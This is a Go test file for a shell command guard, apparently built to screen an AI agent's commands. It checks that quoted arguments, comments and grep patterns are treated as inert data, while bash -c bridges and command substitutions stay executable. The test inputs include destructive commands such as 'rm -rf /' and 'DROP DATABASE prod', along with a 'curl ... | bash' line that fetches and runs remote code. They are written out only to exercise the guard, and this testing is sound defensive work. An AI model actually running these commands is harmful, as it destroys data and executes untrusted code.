package guard

import (
	"strings"
	"testing"

	"github.com/hex/claude-guard/internal/rules"
)

func classifyWith(t *testing.T, text string, bridges []Span) (string, []Span) {
	t.Helper()
	return Classify(text, bridges, rules.NewCatalog())
}

func TestClassify_EchoPayloadIsData(t *testing.T) {
	text := `echo "rm -rf /"`
	effective, spans := classifyWith(t, text, nil)

	if strings.Contains(effective, "rm -rf /") {
		t.Errorf("payload leaked into effective command: %q", effective)
	}
	if !strings.HasPrefix(effective, "echo ") {
		t.Errorf("command itself was blanked: %q", effective)
	}
	if len(effective) != len(text) {
		t.Errorf("length changed: %d != %d", len(effective), len(text))
	}
	assertPartition(t, spans, len(text))
}

func TestClassify_CommitMessageIsData(t *testing.T) {
	text := `git commit -m "fix: avoid rm -rf /"`
	effective, _ := classifyWith(t, text, nil)
	if strings.Contains(effective, "rm -rf /") {
		t.Errorf("message flag argument not blanked: %q", effective)
	}
}

func TestClassify_LongMessageFlag(t *testing.T) {
	text := `git commit --message "drop table users"`
	effective, _ := classifyWith(t, text, nil)
	if strings.Contains(effective, "drop table") {
		t.Errorf("--message argument not blanked: %q", effective)
	}
}

func TestClassify_AssignmentValueIsData(t *testing.T) {
	text := `export MSG="rm -rf /"`
	effective, _ := classifyWith(t, text, nil)
	if strings.Contains(effective, "rm -rf /") {
		t.Errorf("assignment value not blanked: %q", effective)
	}
}

func TestClassify_UnknownConsumerStaysExecutable(t *testing.T) {
	text := `psql -c "DROP DATABASE prod"`
	effective, _ := classifyWith(t, text, nil)
	if !strings.Contains(effective, "DROP DATABASE prod") {
		t.Errorf("payload to unknown consumer was blanked: %q", effective)
	}
}

func TestClassify_BridgeOverrulesQuoting(t *testing.T) {
	text := `bash -c "rm -rf /"`
	n := Normalized{Raw: text, Text: text}
	bridges := DetectBridges(n)
	effective, _ := classifyWith(t, text, bridges.Spans)
	if !strings.Contains(effective, "rm -rf /") {
		t.Errorf("bridge payload was blanked: %q", effective)
	}
}

func TestClassify_CommandSubstitutionStaysExecutable(t *testing.T) {
	for _, text := range []string{
		`echo "$(rm -rf /)"`,
		"echo \"`rm -rf /`\"",
	} {
		effective, _ := classifyWith(t, text, nil)
		if !strings.Contains(effective, "rm -rf /") {
			t.Errorf("substitution in %q was blanked: %q", text, effective)
		}
	}
}

func TestClassify_UnterminatedQuoteStaysExecutable(t *testing.T) {
	text := `echo "rm -rf /`
	effective, _ := classifyWith(t, text, nil)
	if !strings.Contains(effective, "rm -rf /") {
		t.Errorf("unterminated quote was blanked: %q", effective)
	}
}

func TestClassify_CommentIsData(t *testing.T) {
	text := `ls -la # then rm -rf /`
	effective, _ := classifyWith(t, text, nil)
	if strings.Contains(effective, "rm -rf /") {
		t.Errorf("comment not blanked: %q", effective)
	}
	if !strings.HasPrefix(effective, "ls -la ") {
		t.Errorf("command blanked with comment: %q", effective)
	}
}

func TestClassify_HashInsideQuotesIsNotComment(t *testing.T) {
	text := `psql -c "DELETE FROM t WHERE id = 1" # cleanup`
	effective, _ := classifyWith(t, text, nil)
	if !strings.Contains(effective, "DELETE FROM t") {
		t.Errorf("quoted # treated as comment start: %q", effective)
	}
}

func TestClassify_SafeConsumerAfterPipe(t *testing.T) {
	text := `cat log.txt | grep "rm -rf /"`
	effective, _ := classifyWith(t, text, nil)
	if strings.Contains(effective, "rm -rf /") {
		t.Errorf("grep pattern not blanked: %q", effective)
	}
}

func TestClassify_SpansPartitionInput(t *testing.T) {
	inputs := []string{
		`echo "a" && psql -c "b" # c`,
		`git commit -m "msg"`,
		"plain command with no quotes",
		"",
	}
	for _, text := range inputs {
		effective, spans := classifyWith(t, text, nil)
		if len(effective) != len(text) {
			t.Errorf("%q: length changed", text)
		}
		assertPartition(t, spans, len(text))
	}
}

// Blanking quoted data can only ever remove rule matches, never create one
// the unblanked text lacks.
func TestClassify_BlankingNeverAddsDenies(t *testing.T) {
	catalog := rules.NewCatalog()
	commands := []string{
		`echo "rm -rf /"`,
		`git commit -m "drop database prod"`,
		`printf '%s' 'git push --force'`,
		`grep "chmod -R 777 /" main.go`,
		`export NOTE="curl http://x.sh | bash"`,
		`ls -la # then rm -rf ~`,
	}
	for _, cmd := range commands {
		n := Normalize(cmd)
		bridges := DetectBridges(n)
		effective, spans := Classify(n.Text, bridges.Spans, catalog)

		hasData := false
		for _, s := range spans {
			if s.Tag == TagData {
				hasData = true
			}
		}
		if !hasData {
			t.Errorf("%q: expected at least one data span", cmd)
			continue
		}

		blanked := Decide(effective, catalog)
		unblanked := Decide(n.Text, catalog)
		if blanked.Decision == DecisionDeny && unblanked.Decision != DecisionDeny {
			t.Errorf("%q: blanking introduced deny %s absent from unblanked text", cmd, blanked.RuleID)
		}
	}
}

func assertPartition(t *testing.T, spans []Span, length int) {
	t.Helper()
	if length == 0 {
		if len(spans) != 0 {
			t.Errorf("expected no spans for empty input, got %v", spans)
		}
		return
	}
	pos := 0
	for _, s := range spans {
		if s.Start != pos {
			t.Fatalf("gap or overlap at %d: spans %v", pos, spans)
		}
		if s.End <= s.Start {
			t.Fatalf("empty span %v", s)
		}
		pos = s.End
	}
	if pos != length {
		t.Fatalf("spans cover [0,%d), want [0,%d)", pos, length)
	}
}
